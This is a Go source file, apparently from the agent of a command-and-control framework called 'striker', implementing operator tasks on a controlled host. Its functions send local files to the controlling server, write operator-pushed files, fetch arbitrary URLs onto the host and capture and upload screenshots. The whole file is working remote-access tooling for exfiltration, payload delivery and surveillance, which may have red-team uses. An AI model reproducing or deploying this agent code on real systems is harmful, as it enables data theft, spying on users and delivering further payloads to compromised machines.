package executor

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"time"

	"striker/internal/session"
	"striker/internal/task"
)

// download sends a local file to the server, where the operator
// downloads it.
func (e *Executor) download(ctx context.Context, sess *session.Session, t *task.Task) (string, bool) {
	name, ok := stringParam(t, "file")
	if !ok {
		return "Error opening file!", false
	}
	f, err := os.Open(sess.Resolve(name))
	if err != nil {
		e.logger.Debug("task %s: %v", t.ID(), err)
		return "Error opening file!", false
	}
	defer f.Close()

	if fi, err := f.Stat(); err != nil || fi.IsDir() {
		return "Error opening file!", false
	}
	return e.send(ctx, sess, filepath.Base(name), f)
}

// upload stores a server-hosted file, pushed by the operator, in the
// write directory.
func (e *Executor) upload(ctx context.Context, sess *session.Session, t *task.Task) (string, bool) {
	fileID, ok := stringParam(t, "fileID")
	if !ok {
		return "No file given!", false
	}
	name, ok := stringParam(t, "name")
	if !ok {
		name = fileID
	}
	if err := e.fetchTo(ctx, "/agent/download/"+fileID, sess.WritePath(name)); err != nil {
		e.logger.Debug("task %s: %v", t.ID(), err)
		if os.IsPermission(err) || os.IsNotExist(err) {
			return "Error writing file: " + name, false
		}
		return "Error downloading file: " + err.Error(), false
	}
	return "File uploaded successfully!", true
}

// webload fetches an arbitrary URL into the write directory.
func (e *Executor) webload(ctx context.Context, sess *session.Session, t *task.Task) (string, bool) {
	url, ok := stringParam(t, "url")
	if !ok {
		return "No URL given!", false
	}
	name, ok := stringParam(t, "file")
	if !ok {
		name = filepath.Base(url)
	}
	if err := e.fetchTo(ctx, url, sess.WritePath(name)); err != nil {
		return "Download error: " + err.Error(), false
	}
	return "File downloaded!", true
}

// screenshot captures the display and uploads it like a file.
func (e *Executor) screenshot(ctx context.Context, sess *session.Session, _ *task.Task) (string, bool) {
	png, err := e.caps.Screen.Capture(ctx)
	if err != nil {
		return unsupportedOr(err, "Error capturing screen: "), false
	}
	name := fmt.Sprintf("screenshot-%d.png", time.Now().Unix())
	if text, ok := e.send(ctx, sess, name, bytes.NewReader(png)); !ok {
		return text, false
	}
	return "Screenshot uploaded!", true
}

// ── shared ───────────────────────────────────────────────────────────

func (e *Executor) send(ctx context.Context, sess *session.Session, name string, r io.Reader) (string, bool) {
	if e.transport == nil {
		return "Not connected!", false
	}
	if _, err := e.transport.Upload(ctx, "/agent/upload/"+sess.ID(), "file", name, r); err != nil {
		return "Error uploading file: " + err.Error(), false
	}
	return "File sent to server!", true
}

// fetchTo downloads url into path.  A failed transfer leaves no partial
// file behind.
func (e *Executor) fetchTo(ctx context.Context, url, path string) error {
	if e.transport == nil {
		return fmt.Errorf("no transport")
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	n, err := e.transport.Fetch(ctx, url, f)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		os.Remove(path)
		return err
	}
	e.logger.Verbose("wrote %d bytes to %s", n, path)
	return nil
}
